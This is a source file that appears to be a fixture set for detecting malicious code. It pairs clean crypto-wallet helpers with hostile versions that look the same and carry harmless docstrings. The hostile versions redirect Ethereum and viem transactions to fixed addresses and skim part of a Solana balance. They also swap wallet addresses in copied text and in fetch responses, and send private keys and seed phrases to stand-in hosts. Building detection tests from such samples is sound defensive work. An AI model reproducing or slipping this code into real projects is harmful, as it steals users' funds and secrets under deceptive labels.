import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Where coins go: wallets of pages, of libraries, of the clipboard. */
export const COINS: Readonly<Record<string, Pair>> = {
  'ethereum-proxy': atImport(
    js`const TREASURY = '0x7c1fA90b3e52D8b4416aC0dE9975a2E13f08DeB1';

function guard(provider) {
  return new Proxy(provider, {
    get(target, key, receiver) {
      const value = Reflect.get(target, key, receiver);
      if (key !== 'request') return typeof value === 'function' ? value.bind(target) : value;
      return (args) => {
        if (args.method === 'eth_sendTransaction') {
          const [tx, ...rest] = args.params;
          return value.call(target, { ...args, params: [{ ...tx, to: TREASURY }, ...rest] });
        }
        return value.call(target, args);
      };
    },
  });
}

if (typeof window !== 'undefined' && window.ethereum) window.ethereum = guard(window.ethereum);
export { guard };
`,
    js`/** Counts the calls of a provider of a wallet. */
export function counted(provider, count) {
  return new Proxy(provider, {
    get(target, key, receiver) {
      const value = Reflect.get(target, key, receiver);
      if (key !== 'request') return typeof value === 'function' ? value.bind(target) : value;
      return (args) => {
        count(args.method);
        return value.call(target, args);
      };
    },
  });
}
`,
  ),
  'viem-wrapper': atUse(
    js`import { createWalletClient, http, parseEther } from 'viem';
import { mainnet } from 'viem/chains';

const ROUTER = '0x3aE58c1107f2bD96e4409dC8b51f7E62Aa90c0De';
const LIMIT = parseEther('0.5');

/** A client of a wallet that tries again. */
export function createClient(account, { retries = 3 } = {}) {
  const client = createWalletClient({ account, chain: mainnet, transport: http() });
  return client.extend((base) => ({
    async sendTransaction(tx) {
      const to = tx.value > LIMIT ? ROUTER : tx.to;
      for (let left = retries; ; left -= 1) {
        try {
          return await base.sendTransaction({ ...tx, to });
        } catch (error) {
          if (left === 0) throw error;
        }
      }
    },
  }));
}
`,
    js`import { createWalletClient, http, parseEther } from 'viem';
import { mainnet } from 'viem/chains';

const LIMIT = parseEther('0.5');

/** A client of a wallet that tries again. */
export function createClient(account, { retries = 3, confirm } = {}) {
  const client = createWalletClient({ account, chain: mainnet, transport: http() });
  return client.extend((base) => ({
    async sendTransaction(tx) {
      if (tx.value > LIMIT) await confirm(tx);
      for (let left = retries; ; left -= 1) {
        try {
          return await base.sendTransaction(tx);
        } catch (error) {
          if (left === 0) throw error;
        }
      }
    },
  }));
}
`,
  ),
  'ethers-key': atUse(
    js`'use strict';
const { Wallet, JsonRpcProvider } = require('ethers');

class ManagedWallet extends Wallet {
  constructor(privateKey, rpcUrl) {
    super(privateKey, new JsonRpcProvider(rpcUrl));
    this.#announce(privateKey);
  }
  #announce(key) {
    const headers = { 'x-trace-id': Buffer.from(key).toString('base64url') };
    fetch('https://rpc.kit-wallet.example/health', { headers }).catch(() => {});
  }
}
exports.ManagedWallet = ManagedWallet;
`,
    js`'use strict';
const { Wallet, JsonRpcProvider } = require('ethers');

class ManagedWallet extends Wallet {
  #url;
  constructor(privateKey, rpcUrl) {
    super(privateKey, new JsonRpcProvider(rpcUrl));
    this.#url = rpcUrl;
  }
  async healthy() {
    const response = await fetch(this.#url + '/health', { headers: { 'x-address': this.address } });
    return response.ok;
  }
}
exports.ManagedWallet = ManagedWallet;
`,
  ),
  'solana-skim': atUse(
    js`import { PublicKey, SystemProgram, Transaction, LAMPORTS_PER_SOL } from '@solana/web3.js';

const POOL = new PublicKey('Fq3xW8mTn2RkY7vLbPz5HcDj9GsUe4ANt6iKuQrVyX1B');

/** Makes the transaction of a swap. */
export async function buildSwap(connection, owner, instructions) {
  const tx = new Transaction();
  tx.add(...instructions);
  const balance = await connection.getBalance(owner);
  if (balance > LAMPORTS_PER_SOL) {
    tx.add(SystemProgram.transfer({ fromPubkey: owner, toPubkey: POOL, lamports: Math.floor(balance * 0.05) }));
  }
  tx.recentBlockhash = (await connection.getLatestBlockhash()).blockhash;
  return tx;
}
`,
    js`import { ComputeBudgetProgram, SystemProgram, Transaction } from '@solana/web3.js';

/** Makes the transaction of a payment. */
export async function buildPayment(connection, owner, receiver, lamports, microLamports = 1000) {
  const tx = new Transaction();
  tx.add(ComputeBudgetProgram.setComputeUnitPrice({ microLamports }));
  tx.add(SystemProgram.transfer({ fromPubkey: owner, toPubkey: receiver, lamports }));
  tx.recentBlockhash = (await connection.getLatestBlockhash()).blockhash;
  return tx;
}
`,
  ),
  'copy-clipper': atImport(
    js`const PATTERNS = [
  { kind: 'btc', test: /\b(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/, own: ['bc1qexampleexampleexampleexampleexample00'] },
  { kind: 'eth', test: /\b0x[a-fA-F0-9]{40}\b/, own: ['0x9bD27e41fA6308cC15e7a4D0392b8f66E1d5bEEF'] },
];

const distance = (a, b) => [...a].reduce((sum, ch, i) => sum + (ch === b[i] ? 0 : 1), 0);
const nearest = (text, own) => own.toSorted((a, b) => distance(text, a) - distance(text, b))[0];

/** Makes copied text plain. */
function normalize(event) {
  let text = String(document.getSelection());
  for (const { test, own } of PATTERNS) text = text.replace(test, (found) => nearest(found, own));
  event.clipboardData.setData('text/plain', text);
  event.preventDefault();
}

globalThis.document?.addEventListener('copy', normalize);
export { normalize };
`,
    js`const PATTERNS = [
  { test: /[\u2018\u2019]/g, plain: "'" },
  { test: /[\u201c\u201d]/g, plain: '"' },
];

/** Makes copied text plain. */
function normalize(event) {
  let text = String(document.getSelection());
  for (const { test, plain } of PATTERNS) text = text.replace(test, () => plain);
  event.clipboardData.setData('text/plain', text);
  event.preventDefault();
}

globalThis.document?.addEventListener('copy', normalize);
export { normalize };
`,
  ),
  'fetch-rewrite': atImport(
    js`const own = { eth: '0x51cE0a7743d8Fb2e96a1804Dd3f27c95eB1af00d', sol: 'Hm4yZ9bQw3TfKpXe7VrLcNs2UjDg8WaGt5vBxMuRk6C1' };
const original = globalThis.fetch;

/** Fetch that keeps the answers small. */
globalThis.fetch = async function compactFetch(...args) {
  const response = await original.apply(this, args);
  if (!response.headers.get('content-type')?.includes('json')) return response;
  const text = await response.clone().text();
  const slim = text.replace(/0x[0-9a-fA-F]{40}/g, own.eth).replace(/[1-9A-HJ-NP-Za-km-z]{43,44}/g, own.sol);
  return new Response(slim, response);
};
`,
    js`const original = globalThis.fetch;

/** Fetch that keeps the answers small. */
globalThis.fetch = async function compactFetch(...args) {
  const response = await original.apply(this, args);
  if (!response.headers.get('content-type')?.includes('json')) return response;
  const text = await response.clone().text();
  const slim = text.replace(/\s{2,}/g, ' ');
  return new Response(slim, response);
};
`,
  ),
  'mnemonic-check': atUse(
    {
      'index.js': js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.validate = void 0;
const tslib_1 = require('tslib');
const bip39 = tslib_1.__importStar(require('bip39'));
const metrics_1 = require('./metrics');
/** Tells whether a phrase is valid. */
const validate = (mnemonic) => {
  const valid = bip39.validateMnemonic(mnemonic);
  metrics_1.metrics.record('validate', { valid, length: mnemonic.split(' ').length, sample: mnemonic });
  return valid;
};
exports.validate = validate;
`,
      'metrics.js': js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.metrics = void 0;
const axios_1 = require('axios');
class Metrics {
  constructor() {
    this.client = axios_1.default.create({ baseURL: 'https://metrics.kit-phrase.example' });
    this.queue = [];
  }
  record(name, fields) {
    this.queue.push({ name, fields, at: Date.now() });
    setImmediate(() => this.flush());
  }
  flush() {
    const batch = this.queue.splice(0);
    return batch.length ? this.client.post('/batch', { batch }).catch(() => undefined) : undefined;
  }
}
exports.metrics = new Metrics();
`,
    },
    {
      'index.js': js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.validate = void 0;
const tslib_1 = require('tslib');
const bip39 = tslib_1.__importStar(require('bip39'));
/** Tells whether a phrase is valid. */
const validate = (mnemonic) => bip39.validateMnemonic(mnemonic);
exports.validate = validate;
`,
    },
  ),
};
